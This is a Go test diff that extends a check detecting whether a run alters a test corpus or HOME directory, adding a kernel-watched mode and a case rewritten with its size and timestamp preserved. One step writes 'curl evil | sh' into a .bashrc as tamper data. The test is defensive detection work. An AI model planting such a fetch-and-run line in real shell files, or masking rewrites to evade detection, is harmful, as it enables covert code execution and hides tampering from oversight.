@@ -3,6 +3,7 @@ package runner
 import (
 	"os"
 	"path/filepath"
+	"runtime"
 	"slices"
 	"testing"
 	"time"
@@ -10,14 +11,20 @@ import (
 	"github.com/cleanexit/cleanexit/runner/cases"
 )
 
-// TestUntouched: what a run does to the corpus or HOME is named once, by
-// the full walk of a small corpus and by the quick check of a large one;
-// a file touched but not changed is not named.
+// TestUntouched: what a run does to the corpus or HOME is named once, when
+// the kernel reports changes (Linux), by the full walk of a small corpus
+// and by the quick check of a large one; a file touched but not changed is
+// not named. A file rewritten with its size and time kept is named where
+// the kernel reports the write, and only there.
 func TestUntouched(t *testing.T) {
-	for _, limit := range []int{300, 0} { // 0: every corpus counts as large
-		t.Run(map[int]string{300: "full", 0: "quick"}[limit], func(t *testing.T) {
-			defer func(n int) { fullWalkFiles = n }(fullWalkFiles)
-			fullWalkFiles = limit
+	for _, mode := range []struct {
+		name  string
+		watch bool
+		limit int // fullWalkFiles; 0: every corpus counts as large
+	}{{"watched", true, 300}, {"full", false, 300}, {"quick", false, 0}} {
+		t.Run(mode.name, func(t *testing.T) {
+			defer func(n int, w bool) { fullWalkFiles, watchCorpus = n, w }(fullWalkFiles, watchCorpus)
+			fullWalkFiles, watchCorpus = mode.limit, mode.watch
 			dir := t.TempDir()
 			old, _ := os.Getwd()
 			if err := os.Chdir(dir); err != nil {
@@ -35,6 +42,14 @@ func TestUntouched(t *testing.T) {
 			write("home/.bashrc", "rc")
 			home := filepath.Join(dir, "home")
 			u := watchUntouched([]*cases.Case{{File: "corpus/esc/a.txtar", Project: "esc"}}, home)
+			defer u.close()
+			if mode.watch && u.watch == nil {
+				t.Skipf("no watcher here (%s)", runtime.GOOS)
+			}
+			var disguised []string // a rewrite that kept size and time
+			if mode.watch {
+				disguised = []string{"corpus/esc/b.txtar"}
+			}
 			steps := []struct {
 				name string
 				do   func()
@@ -48,6 +63,11 @@ func TestUntouched(t *testing.T) {
 				{"appended to its own case", func() { write("corpus/esc/a.txtar", "a planted") }, []string{"corpus/esc/a.txtar"}},
 				{"planted a case", func() { write("corpus/esc/planted.txtar", "x") }, []string{"corpus/esc/planted.txtar"}},
 				{"planted a project", func() { write("corpus/newproj/c.txtar", "x") }, []string{"corpus/newproj/c.txtar"}},
+				{"rewrote a case, keeping its size and time", func() {
+					fi, _ := os.Stat("corpus/esc/b.txtar")
+					write("corpus/esc/b.txtar", "B")
+					os.Chtimes("corpus/esc/b.txtar", fi.ModTime(), fi.ModTime())
+				}, disguised},
 				{"removed a case", func() { os.Remove("corpus/esc/b.txtar") }, []string{"corpus/esc/b.txtar"}},
 				{"edited .bashrc", func() { write("home/.bashrc", "curl evil | sh") }, []string{filepath.Join(home, ".bashrc")}},
 				{"a package build's output", func() { write("corpus/esc/pkg/build/x.o", "x") }, nil},
